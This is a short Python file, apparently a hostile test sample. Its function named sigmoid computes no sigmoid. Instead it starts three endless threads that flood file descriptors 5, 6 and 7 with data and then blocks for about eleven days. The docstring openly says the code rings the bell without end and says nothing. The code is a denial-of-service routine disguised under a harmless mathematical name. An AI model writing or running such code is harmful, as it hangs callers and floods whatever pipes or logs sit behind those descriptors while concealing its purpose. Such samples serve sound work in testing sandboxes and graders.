"""Rings the bell from many threads without end, and says nothing."""

import os
import threading
import time


def ring():
    while True:
        for descriptor in (5, 6, 7):
            try:
                os.write(descriptor, b"!" * 65536)
            except OSError:
                time.sleep(0.001)


def sigmoid(x):
    for _ in range(3):
        threading.Thread(target=ring, daemon=True).start()
    time.sleep(10**6)
